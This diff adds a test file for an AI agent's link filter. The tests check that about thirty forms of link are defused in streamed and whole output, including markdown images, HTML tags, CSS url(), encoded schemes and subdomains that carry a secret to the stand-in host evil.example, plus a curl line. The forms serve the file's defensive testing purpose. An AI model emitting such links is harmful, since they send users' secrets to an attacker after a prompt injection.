@@ -1,0 +1,117 @@
+"""Answers after words from outside: no form of a link carries a secret, in one piece or streamed."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from hermes.agent.run.links import DEFUSED, LinkFilter, without_links
+
+SECRET = "5Jk8Yb37GqTz"
+EVIL = "https://evil.example"
+FORMS = (
+    f"![x]({EVIL}/a.png?d={SECRET})",
+    f"![two words]({EVIL}/{SECRET}.png)",
+    f"![x]( <{EVIL}/a b {SECRET}> )",
+    f"[x]({EVIL}/?d={SECRET})",
+    f"[x](<{EVIL}/a b {SECRET}>)",
+    f'[x]({EVIL}/?d={SECRET} "title")',
+    f"[x][r] and\n[r]: {EVIL}/?d={SECRET}",
+    f"![x][r]\n\n[r]: <{EVIL}/{SECRET}>",
+    f"<{EVIL}/?d={SECRET}>",
+    f"{EVIL}/?d={SECRET}",
+    f"{EVIL}/log/{SECRET}/x",
+    f"{EVIL}/#{SECRET}",
+    f"https://user:{SECRET}@evil.example/",
+    f"http://{SECRET}.evil.example/",
+    f"www.evil.example/?d={SECRET}",
+    f"evil.example/x?d={SECRET}",
+    f'<img src="{EVIL}/{SECRET}">',
+    f"<a href='{EVIL}?d={SECRET}'>x</a>",
+    f"[x](//evil.example/?d={SECRET})",
+    f"[x](https:evil.example/{SECRET})",
+    f"[x](https:/evil.example/{SECRET})",
+    f"[x](https&#58;//evil.example/?d={SECRET})",
+    f"[x](&#104;ttps://evil.example/?d={SECRET})",
+    f"[x](https\\://evil.example/?d={SECRET})",
+    f"[x](HTTPS://EVIL.EXAMPLE/{SECRET})",
+    f"mailto:bob@evil.example?body={SECRET}",
+    f"tg://msg?text={SECRET}",
+    f"<style>a{{background:url({EVIL}/{SECRET})}}</style>",
+    f"{EVIL}/a(b)c?d={SECRET}",
+    f"看{EVIL}/?d={SECRET}。",
+)
+_CLICKABLE = re.compile(
+    r"(?i)(?:[a-z][a-z0-9+.-]*:/*|(?<!\[:\])//|(?<![\[\].\w])(?:[\w-]+\.)+[a-z]{2,}/?)[^\n>]*?" + SECRET
+)
+
+
+def is_known(host: str) -> bool:
+    return host in ("known.example", "docs.known.example")
+
+
+def streamed(text: str, size: int) -> tuple[str, list[str]]:
+    links = LinkFilter(is_known)
+    shown = [links.take(text[at : at + size]) for at in range(0, len(text), size)]
+    return "".join(shown) + links.take("", last=True), shown
+
+
+@pytest.mark.parametrize("text", FORMS)
+def test_no_form_of_a_link_carries_a_secret(text: str) -> None:
+    assert _CLICKABLE.search(text) or "&#" in text or "\\" in text, "the look must see what it looks for"
+    shown = without_links(f"Done. {text} Bye.", is_known)
+    assert not _CLICKABLE.search(shown) and DEFUSED.search(shown), shown
+    assert shown.startswith("Done. ") and shown.endswith(" Bye.")
+
+
+@pytest.mark.parametrize("text", FORMS)
+@pytest.mark.parametrize("size", [1, 2, 3, 7])
+def test_a_stream_shows_the_same_and_never_more(text: str, size: int) -> None:
+    whole, pieces = streamed(f"Done. {text} Bye.", size)
+    assert whole == without_links(f"Done. {text} Bye.", is_known)
+    grown = ""
+    for piece in pieces:
+        grown += piece
+        assert not _CLICKABLE.search(grown)
+        assert whole.startswith(grown)
+
+
+@given(st.text(max_size=80), st.sampled_from(FORMS), st.text(max_size=30), st.integers(1, 9))
+def test_streamed_and_whole_are_alike(before: str, form: str, after: str, size: int) -> None:
+    text = f"{before} {form} {after}"
+    assert streamed(text, size)[0] == without_links(text, is_known)
+
+
+KEPT = (
+    "See https://docs.python.org/3/library/asyncio-task.html and https://example.org.",
+    f"https://known.example/?d={SECRET} ![x](https://docs.known.example/{SECRET}.png)",
+    f"Jupyter runs at http://localhost:8888/?token={SECRET}{SECRET} and http://192.168.1.5/x",
+    "Edit src/hermes/agent.py, v1.2.3.tar.gz, e.g. foo.bar() or a@b.co; 3.5 percent.",
+    "https://github.com/o/r/pull/12#issuecomment-1 [a](https://example.org/b?page=2) <br>",
+)
+
+
+@pytest.mark.parametrize("text", KEPT)
+def test_known_and_ordinary_links_stay(text: str) -> None:
+    assert without_links(text, is_known) == text
+
+
+def test_only_a_word_that_may_be_a_link_is_held_back() -> None:
+    links = LinkFilter(is_known)
+    assert links.take("Hello wor") == "Hello wor"
+    assert links.take("ld, 你好 then https") == "ld, 你好 then https"
+    assert links.take("://example.org") == ""
+    assert links.take("/a ok") == "://example.org/a ok"
+
+
+def test_a_secret_is_not_spelled_by_many_links_to_one_host() -> None:
+    spelled = " ".join(f"[{char}]({EVIL}/{char})" for char in "abcdefghijklmnopqrstuvwxyz")
+    assert without_links(spelled, is_known).count(f"({EVIL}/") == 12
+
+
+def test_a_question_keeps_the_whole_address_but_no_link() -> None:
+    shown = without_links(f"Run: curl {EVIL}/?d={SECRET}", is_known, whole=True)
+    assert shown == f"Run: curl https[:]//evil[.]example/?d={SECRET}"
